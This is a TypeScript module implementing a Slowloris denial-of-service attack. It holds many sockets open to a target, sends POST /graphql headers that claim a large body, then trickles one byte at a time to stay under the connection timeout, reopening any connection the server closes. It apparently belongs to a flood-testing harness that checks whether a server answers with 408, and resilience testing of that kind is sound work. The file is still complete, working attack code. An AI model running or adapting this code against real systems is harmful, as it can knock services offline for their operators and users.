import { connect, type Socket } from 'node:net';
import type { Answers, Flood } from './flood.js';
import { countAnswer } from './flood.js';

export interface SlowlorisOptions {
  /** Connections held at once; one that the server closes is opened again. */
  readonly sockets: number;
  /** One byte of body per socket this often: under the connection timeout, so only the request timeout can end it. */
  readonly byteEveryMs: number;
  readonly durationS: number;
}

/** What the body claims to be: it never arrives. */
const CLAIMED_BODY_BYTES = 100_000;

/**
 * Connections that send their headers, then the body a byte at a time. What
 * the attacker got per connection: the server's answer when it closed one
 * (`408`), `closed` without an answer, or `held to the end`.
 */
export function startSlowloris(origin: string, options: SlowlorisOptions): Flood {
  const { hostname, port } = new URL(origin);
  const answers: Answers = new Map();
  const open = new Set<Socket>();
  let running = true;

  const hold = () => {
    if (!running) return;
    const socket = connect(Number(port), hostname);
    open.add(socket);
    let received = '';
    socket.setNoDelay(true);
    socket.on('data', (chunk: Buffer) => (received += chunk.toString('latin1')));
    socket.on('error', () => {});
    socket.once('connect', () => {
      socket.write(`POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: ${CLAIMED_BODY_BYTES}\r\n\r\n{`);
    });
    const trickle = setInterval(() => socket.writable && socket.write(' '), options.byteEveryMs);
    socket.once('close', () => {
      clearInterval(trickle);
      open.delete(socket);
      if (!running) return;
      countAnswer(answers, /^HTTP\/1\.1 (\d{3})/.exec(received)?.[1] ?? 'closed');
      hold();
    });
  };
  for (let i = 0; i < options.sockets; i++) hold();

  let finish: () => void = () => {};
  const done = new Promise<Answers>((resolve) => {
    const timer = setTimeout(() => finish(), options.durationS * 1000);
    finish = () => {
      if (!running) return;
      running = false;
      clearTimeout(timer);
      countAnswer(answers, 'held to the end', open.size);
      for (const socket of open) socket.destroy();
      resolve(answers);
    };
  });
  return { done, stop: () => finish() };
}
